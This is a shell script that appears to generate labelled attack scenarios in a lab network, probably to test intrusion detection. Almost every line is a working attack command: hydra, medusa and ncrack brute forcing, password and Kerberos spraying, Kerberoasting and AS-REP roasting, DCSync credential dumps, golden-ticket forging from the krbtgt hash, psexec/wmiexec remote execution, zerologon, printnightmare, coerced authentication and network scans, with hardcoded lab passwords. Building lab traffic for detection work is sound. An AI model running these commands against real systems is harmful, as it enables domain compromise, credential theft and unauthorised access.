# attacks.sh: what an intruder on att does with other people's tools, and what an infected host calls outside.
A() { at att "$@"; }
imp() { local tool=$1; shift; at att "$bin/$tool.py" "$@"; }
agent() { local host=$1; shift; at "$host" "$py" "$here/agent.py" "$@"; }
dc=$net.10 files=$net.20 web=$net.21 mail=$net.22 db=$net.23 lin=$net.24 dev=$net.30
words() { head -n "${1:-60}" /usr/share/dirb/wordlists/common.txt >"$dir/words"; seq 40 | sed 's/^/Passw0rd/' >"$dir/secrets"; }

# ---- guessing secrets
half=1
scenario login-bruteforce hydra_ssh
hydra_ssh() { words; A hydra -l evelien -P "$dir/secrets" -t 4 $lin ssh; }
scenario login-bruteforce hydra_smb
hydra_smb() { words; A hydra -l evelien -P "$dir/secrets" $files smb2; A hydra -l evelien -P "$dir/secrets" $files smb; }
scenario login-bruteforce+cleartext-credentials medusa_ftp
medusa_ftp() { words; A medusa -h $lin -u evelien -P "$dir/secrets" -M ftp -t 2; }
scenario login-bruteforce+cleartext-credentials,web-exploit hydra_form
hydra_form() { words; A hydra -l evelien -P "$dir/secrets" $web http-post-form "/login:user=^USER^&pass=^PASS^:F=failed"; }
scenario login-bruteforce hydra_mysql
hydra_mysql() { words; A hydra -l app -P "$dir/secrets" -t 4 $db mysql; }
scenario login-bruteforce+cleartext-credentials hydra_telnet
hydra_telnet() { words; A hydra -l evelien -P "$dir/secrets" -t 4 $dev telnet; }
scenario login-bruteforce+cleartext-credentials hydra_ldap
hydra_ldap() { words; A hydra -l 'LAB\user3' -P "$dir/secrets" $dc ldap2; agent att ldap $dc user3@lab.example "$dir/secrets"; }
scenario login-spray spray_smb
spray_smb() { for u in $(cat "$dir/users"); do A smbclient -L $dc -U "LAB\\$u%Herfst2026" -c ls; done; }
half=2
scenario login-bruteforce+cleartext-credentials hydra_imap
hydra_imap() { words; A hydra -l evelien -P "$dir/secrets" -t 4 $mail imap; }
scenario login-bruteforce+cleartext-credentials ncrack_ftp
ncrack_ftp() { words; A ncrack --user evelien -P "$dir/secrets" ftp://$lin; }
scenario login-bruteforce slow_ssh 20
slow_ssh() { for p in $(seq 25); do SSHPASS=x A "$py" "$here/agent.py" ssh $lin root "wrong$p"; done; }
scenario login-bruteforce+cleartext-credentials,web-exploit hydra_basic
hydra_basic() { words; A hydra -l evelien -P "$dir/secrets" $web http-get /private/; }
scenario login-bruteforce hydra_postgres
hydra_postgres() { words; A hydra -l postgres -P "$dir/secrets" -t 4 $db postgres; }
scenario login-bruteforce+cleartext-credentials hydra_pop3
hydra_pop3() { words; A hydra -l evelien -P "$dir/secrets" -t 4 $mail pop3; }
scenario login-bruteforce+cleartext-credentials hydra_redis
hydra_redis() { words; A hydra -P "$dir/secrets" $db redis; }
scenario login-spray,user-enumeration+login-bruteforce spray_kerberos
spray_kerberos() { for u in $(cat "$dir/users"); do imp getTGT -dc-ip $dc "lab.example/$u:Herfst2026"; done; }
scenario login-bruteforce,scan+cleartext-credentials snmp_words
snmp_words() { words 300; A onesixtyone -c "$dir/words" $dev; }
scenario login-spray,login-bruteforce,scan+cleartext-credentials,c2-channel telnet_worm
telnet_worm() { for n in $(seq 40 90); do A timeout 2 bash -c "exec 3<>/dev/tcp/$net.$n/23" & done; wait; agent att telnet $dev; }

# ---- the domain
half=1
scenario user-enumeration+login-spray kerberos_users
kerberos_users() { agent att kerberos $dc 60; }
scenario kerberos-roasting+directory-recon user_spns
user_spns() {
  local cc=$dir/roast
  echo Lente2026 | KRB5CCNAME=$cc A kinit user1
  A ldapsearch -x -LLL -H ldap://$dc -D user1@lab.example -w Lente2026 -b DC=lab,DC=example '(&(samAccountType=805306368)(servicePrincipalName=*))' servicePrincipalName
  for s in HTTP/web MSSQLSvc/db MSSQLSvc/db2 HTTP/intranet TERMSRV/ts1 FTP/lin; do KRB5CCNAME=$cc A kvno -e arcfour-hmac $s.lab.example; done
}
scenario credential-theft+directory-recon dcsync
dcsync() { imp secretsdump -just-dc LAB/Administrator:Winter2026!@$dc; }
scenario remote-execution+executable-transfer psexec
psexec() { imp psexec root:Zomer2026@$files cmd.exe; }
scenario remote-execution services_create
services_create() { imp services LAB/Administrator:Winter2026!@$dc create -name upd -display upd -path 'cmd.exe /c whoami'; imp services root:Zomer2026@$files create -name upd -display upd -path 'cmd.exe /c whoami'; }
scenario directory-recon samrdump
samrdump() { imp samrdump LAB/user1:Lente2026@$dc; }
scenario directory-recon rpcdump
rpcdump() { imp rpcdump LAB/user1:Lente2026@$dc; imp rpcmap "ncacn_ip_tcp:$dc[135]"; }
scenario kerberos-downgrade,credential-theft golden_ticket
golden_ticket() {
  local ask="ldbsearch -H $dir/dc/private/sam.ldb"
  h=$($ask '(samaccountname=krbtgt)' unicodePwd | sed -n 's/^unicodePwd:: //p' | base64 -d | od -An -tx1 | tr -d ' \n')
  sid=$($ask -s base -b DC=lab,DC=example objectSid | sed -n 's/^objectSid: //p')
  cd "$dir" || return
  echo Lente2026 | KRB5CCNAME=$dir/ccg at pc1 kinit user1
  imp ticketer -nthash "$h" -domain-sid "$sid" -domain lab.example Administrator
  KRB5CCNAME=$dir/Administrator.ccache imp smbclient -k -no-pass -dc-ip $dc lab.example/Administrator@dc1.lab.example </dev/null
}
scenario credential-theft password_set
password_set() { A rpcclient -U LAB/Administrator%Winter2026! $dc -c "setuserinfo2 user9 23 Nieuw2026"; }
scenario netlogon-exploit zerologon
zerologon() { agent att zerologon $dc; }
half=2
scenario kerberos-roasting+directory-recon asrep_roast
asrep_roast() { imp GetNPUsers -dc-ip $dc -request lab.example/user1:Lente2026; imp GetNPUsers -dc-ip $dc -no-pass -usersfile "$dir/users" lab.example/; }
scenario directory-recon,user-enumeration lookupsid
lookupsid() { imp lookupsid LAB/user1:Lente2026@$dc 1200; }
scenario directory-recon rpcclient_loop
rpcclient_loop() { for c in enumdomusers enumdomgroups querydominfo lsaquery 'lookupnames administrator' netshareenumall srvinfo; do A rpcclient -U LAB/user1%Lente2026 $dc -c "$c"; done; for r in $(seq 500 1120); do echo "queryuser $r"; done | head -n 60 | A rpcclient -U LAB/user1%Lente2026 $dc; }
scenario directory-recon ldap_dump
ldap_dump() { A ldapsearch -x -H ldap://$dc -D user1@lab.example -w Lente2026 -b DC=lab,DC=example '(objectClass=*)'; A ldapsearch -x -H ldap://$dc -D user1@lab.example -w Lente2026 -b DC=lab,DC=example '(servicePrincipalName=*)' servicePrincipalName; }
scenario directory-recon ldapdomaindump
ldapdomaindump() { cd "$dir" && A "$bin/ldapdomaindump" -at SIMPLE -u "LAB\\user1" -p Lente2026 $dc; }
scenario directory-recon+credential-theft certipy
certipy() { cd "$dir" && A "$bin/certipy" find -u user1@lab.example -p Lente2026 -dc-ip $dc -target dc1.lab.example -scheme ldap -ns $dc; }
scenario credential-theft+directory-recon dcsync_one
dcsync_one() { imp secretsdump -just-dc-user Administrator -user-status LAB/Administrator:Winter2026!@$dc; }
scenario remote-execution smbexec
smbexec() { imp smbexec root:Zomer2026@$files; }
scenario remote-execution atexec
atexec() { imp atexec root:Zomer2026@$files whoami; imp atexec LAB/Administrator:Winter2026!@$dc whoami; }
scenario remote-execution wmiexec
wmiexec() { imp wmiexec LAB/Administrator:Winter2026!@$dc whoami; imp dcomexec LAB/Administrator:Winter2026!@$dc whoami; }
scenario credential-theft,directory-recon registry
registry() { imp reg LAB/Administrator:Winter2026!@$dc query -keyName 'HKLM\SYSTEM\CurrentControlSet\Control\Lsa'; imp reg LAB/Administrator:Winter2026!@$dc save -keyName 'HKLM\SAM' -o '\\10.66.0.66\x'; imp secretsdump LAB/Administrator:Winter2026!@$dc; }
scenario kerberos-downgrade overpass_hash
overpass_hash() { cd "$dir" && h=$("$py" -c "from impacket.ntlm import compute_nthash as c; print(c('Lente2026').hex())"); imp getTGT -dc-ip $dc lab.example/user2 -hashes ":$h"; KRB5CCNAME=$dir/user2.ccache imp smbclient -k -no-pass -dc-ip $dc lab.example/user2@dc1.lab.example; }
scenario forced-authentication printer_bug
printer_bug() { for h in $files $dc; do agent att printerbug $h $net.66; agent att petitpotam $h $net.66; done; }
scenario smb-exploit,remote-execution printnightmare
printnightmare() { agent att printnightmare $dc; agent att printnightmare $files; }

# ---- looking for hosts and services
half=1
scenario scan nmap_syn
nmap_syn() { A nmap -n -Pn -sS -p 1-1000 $lin; }
scenario scan nmap_udp
nmap_udp() { A nmap -n -Pn -sU --top-ports 100 --max-retries 1 $dev; }
scenario scan nmap_slow 15
nmap_slow() { A nmap -n -Pn -sS -T2 --scan-delay 100ms -p 21,22,23,25,53,80,110,135,139,143,389,443,445,1433,3306,3389,5432,5900,8080 $files $web $lin; }
scenario scan nmap_null
nmap_null() { A nmap -n -Pn -sN --top-ports 100 $lin; }
scenario scan ping_sweep
ping_sweep() { A nmap -n -sn $net.0/24; }
scenario scan masscan_lan
masscan_lan() { A masscan $net.0/24 -p22,80,445,3389 --rate 500 --wait 2; }
half=2
scenario scan nmap_version
nmap_version() { A nmap -n -Pn -sV -p 21,22,25,80,139,143,389,445,3306,5432 $lin $mail $db; }
scenario scan nmap_fin_xmas
nmap_fin_xmas() { A nmap -n -Pn -sF --top-ports 60 $lin; A nmap -n -Pn -sX --top-ports 60 $web; }
scenario scan arp_sweep
arp_sweep() { A arp-scan -I eth0 $net.0/24; }
scenario scan nmap_os
nmap_os() { A nmap -n -O $lin $web; }
scenario scan hping_ports
hping_ports() { A hping3 --scan 1-200 -S $lin; }
scenario scan nmap_ack
nmap_ack() { A nmap -n -Pn -sA --top-ports 100 $web; }
scenario scan nmap_connect_hosts
nmap_connect_hosts() { A nmap -n -Pn -sT -p 445 $net.0/26; }
scenario scan,directory-recon nbtscan_lan
nbtscan_lan() { A nbtscan -r $net.0/24; }
